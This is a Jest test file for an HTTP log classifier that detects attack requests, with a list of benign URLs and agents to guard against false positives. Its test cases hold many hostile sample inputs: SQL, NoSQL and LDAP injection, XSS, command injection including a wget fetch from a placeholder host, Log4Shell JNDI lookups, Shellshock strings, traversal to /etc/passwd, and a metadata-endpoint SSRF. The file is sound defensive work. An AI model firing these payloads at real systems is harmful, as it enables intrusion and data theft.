import { describe, expect, it } from '@jest/globals';
import type { HttpEvent } from '../events/log-event.ts';
import { Classifier, classifyAgent, classifyReferrer, classifyTarget } from './classifier.ts';

const names = (url: string): readonly string[] => classifyTarget(url).map(({ name }) => name);
const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0';

describe('classifyTarget', () => {
  it.each([
    ['sql', '/item?id=7%27%20UNION%20ALL%20SELECT%20name,1%20FROM%20staff--'],
    ['sql', "/item?id=7'+or+'x'='x"],
    ['sql', '/item?id=7/**/and/**/sleep(5)'],
    ['sql', '/item?id=7;drop%20table%20items'],
    ['sql', '/item?id=1%20or%208=8'],
    ['sql', '/item?id=1%20or%202%20in%20(1,2)'],
    ['sql', '/item?id=1%20or%203%20between%201%20and%205'],
    ['sql', '/item?id=1%20or%20name%20like%20%27a%25%27'],
    ['sql', '/item?id=1%20and%20name%20is%20not%20null'],
    ['sql', '/item?id=1%27%20and%20length(name)=8'],
    ['nosql', '/item?name[$ne]=x'],
    ['filter', '/find?name=*)(uid=*))(|(uid=*'],
    ['markup', '/find?q=%3CsCript%3Edo()%3C/script%3E'],
    ['markup', '/find?q=%253Cimg%2520src=x%2520onerror=go(1)%253E'],
    ['script', '/find?q=javascript:alert(1)'],
    ['command', '/ping?host=192.0.2.1;wget%20http://203.0.113.7/x'],
    ['command', "/ping?host=192.0.2.1;c''at%20/tmp/x"],
    ['command', '/ping?host=$(id)'],
    ['command', '/ping?host={cat,/tmp/x}'],
    ['command', '/ping?host={ls,-la}'],
    ['command', '/ping?host=;/bin/ls'],
    ['command', '/ping?host=1%7Ccat'],
    ['command', '/b[i]n/x'],
    ['command', '/ping?host=x;cat%20notes.txt'],
    ['command', '/tools/bin/sh%20-c%20id'],
    ['command', '/ping?host=%28%29%20%7B%20:;%7D;'],
    ['windows-command', '/ping?host=x%26for+/f+%25i+in+(a)+do+b'],
    ['template', '/hello?name={{7*7}}'],
    ['log4shell', '/?x=$%7Bjndi:ldap://203.0.113.7/a%7D'],
    ['log4shell', '/?x=$%7B$%7Blower:j%7Dndi:rmi://203.0.113.7/a%7D'],
    ['php', '/?x=%3C?php%20echo%201;'],
    ['php', '/?x=php://filter/convert.base64-encode/resource=index'],
    ['code', '/?__proto__[admin]=1'],
    ['code', '/?class.module.classLoader.x=1'],
    ['server-side-include', '/?x=%3C!--%23exec%20cmd=x--%3E'],
    ['traversal', '/view?file=../../secret'],
    ['encoded-traversal', '/static/%2e%2e/%2e%2e/x'],
    ['overlong-utf8', '/static/..%c0%af..%c0%afx'],
    ['system-file', '/view?file=/etc/passwd'],
    ['system-file', "/view?file=/e[t]c/pa''sswd"],
    ['remote-inclusion', '/view?page=http://203.0.113.7/x.txt?'],
    ['server-side-request', '/fetch?url=http://169.254.169.254/latest/meta-data'],
    ['sensitive-file', '/.env'],
    ['sensitive-file', '/.git/config'],
    ['sensitive-file', '/dump.sql.gz'],
    ['admin-interface', '/phpMyAdmin/index.php'],
    ['admin-interface', '/wp-login.php'],
    ['exploit', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'],
    ['scanner-mark', '/w00tw00t.at.ISC.SANS.DFind:)'],
    ['request-splitting', '/?x=a%0d%0aSet-Cookie:%20b=c'],
    ['nul', '/view?file=a%00.png'],
    ['session-parameter', '/login?PHPSESSID=0123456789'],
    ['proxy', 'http://example.org/'],
    ['code', '/?x=cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoMSk='],
  ])('should recognise %s in %s', (name, url) => {
    expect(names(url)).toContain(name);
  });

  it.each([
    '/',
    '/blog/2027/select-the-best-from-our-events',
    '/search?q=union+of+students',
    '/search?q=rock+and+roll+or+jazz',
    '/search?q=it%27s+a+day',
    '/search?q=fish+%26+chips',
    '/search?q=a+%3C+b',
    '/search?q=python+course',
    '/search?q=3+or+4+in+a+row',
    '/search?q=size+10+or+larger+in+stock',
    '/search?q=5+and+under+is+free',
    '/search?q=%22foo%22+and+%22bar%22+in+title',
    '/search?q=10%22+screen+and+12%22+in+size',
    '/search?q=rum+%26+cat+videos',
    '/search?q=tom+%26+jerry;+cat+and+mouse',
    '/search?q=box;+set+of+3',
    "/odata/Items?$filter=Price%20gt%205%20and%20contains(Name,'x')",
    "/odata/Items?$filter=startswith(Name,'A')%20and%20length(Name)%20gt%205",
    '/odata/Items?$filter=year(Day)%20eq%202000%20and%20month(Day)%20eq%202',
    '/graphql?query={user(id:1){id,name}}',
    '/_next/static/chunks/app/blog/%5Bslug%5D/page-1a2b.js',
    '/_next/static/chunks/app/%5Blang%5D/(main)/%5B...path%5D/page-1a2b.js',
    '/tools/blob/main/bin/setup',
    '/tools/blob/main/etc/config.yaml',
    '/search?q=2+or+3+bedrooms',
    '/caf%C3%A9?name=J%C3%BCrgen+M%FCller',
    '/search?q=AT%26T+%28support%29',
    '/page?only=1&online=true&once=2',
    '/page?return=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc',
    '/assets/app.3f2a.js?v=1.2.3',
    '/image;jsessionid/a.png',
    '/~ada/notes.html',
    '/files/report-2027.final.pdf',
    '/.well-known/security.txt',
    '/token?t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl',
    '/list?sort=date&order=desc&limit=10&page=2',
    '/etching/processing/system.html',
  ])('should find nothing in %s', (url) => {
    expect(names(url)).toEqual([]);
  });

  it('should weigh a sign that is sometimes harmless less than one that never is', () => {
    const weightOf = (url: string): number => Math.max(...classifyTarget(url).map(({ weight }) => weight));
    expect(weightOf('/login?PHPSESSID=0123456789')).toBeLessThan(0.5);
    expect(weightOf('/.env')).toBe(1);
  });

  it('should take bounded time for a target of a megabyte', () => {
    for (const part of ["' or ", '%2527', '../', '${', '<a ', 'select ', '&a=', '{{']) {
      const start = performance.now();
      classifyTarget(`/?x=${part.repeat(1_048_576 / part.length)}`);
      expect(performance.now() - start).toBeLessThan(1000);
    }
  });
});

describe('fields', () => {
  it('should recognise scanners by their names, and payloads in agents and referrers', () => {
    expect(classifyAgent('Mozilla/5.00 (Nikto/2.5.0)')).toMatchObject([{ name: 'scanner-agent', weight: 1 }]);
    expect(classifyAgent('() { :;}; /bin/true')).toMatchObject([{ name: 'command', kind: 'injection' }]);
    expect(classifyAgent('${jndi:ldap://203.0.113.7/a}')).toMatchObject([{ name: 'log4shell' }]);
    expect(classifyReferrer('https://example.org/?q=<script>x</script>')).toMatchObject([
      { kind: 'cross-site-scripting' },
    ]);
  });

  it.each([
    FIREFOX,
    'Opera/9.80 (MTK; Opera Mini/2.1; U; id) Presto/2.8.119 Version/11.10',
    'Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0) like Gecko',
    'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727)',
    'curl/8.14.1',
    'python-requests/2.32.3',
    'Googlebot/2.1 (+http://www.google.com/bot.html)',
    'Sample (compatible; curl/7; wget)',
  ])('should find nothing in the agent %s', (agent) => {
    expect(classifyAgent(agent)).toEqual([]);
  });
});

describe('Classifier', () => {
  const request = (part: Partial<HttpEvent>): HttpEvent => ({
    ...{
      kind: 'http',
      time: 0,
      client: '192.0.2.1',
      count: 1,
      target: undefined,
      method: 'GET',
      url: '/',
      protocol: 'HTTP/1.1',
    },
    ...{ status: 200, bytes: 1, referrer: '-', userAgent: FIREFOX, user: '' },
    ...part,
  });

  it('should give the same answer for what it remembers, and join the parts of a request', () => {
    const classifier = new Classifier();
    const event = request({ url: '/.env', userAgent: 'sqlmap/1.8', referrer: '<script>' });
    const first = classifier.classify(event);
    expect(first.map(({ kind }) => kind)).toEqual(['probe', 'scanner', 'cross-site-scripting']);
    expect(classifier.classify(event)).toEqual(first);
    expect(classifier.classify(request({}))).toEqual([]);
  });

  it.each([
    ['CONNECT', 'example.org:443', 'proxy'],
    ['TRACE', '/', 'method'],
    ['XYZ', '/', 'method'],
  ])('should recognise the method %s', (method, url, name) => {
    expect(new Classifier().classify(request({ method, url })).map((match) => match.name)).toContain(name);
  });

  it.each(['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'PROPFIND'])(
    'should accept the method %s',
    (method) => {
      expect(new Classifier().classify(request({ method }))).toEqual([]);
    },
  );
});
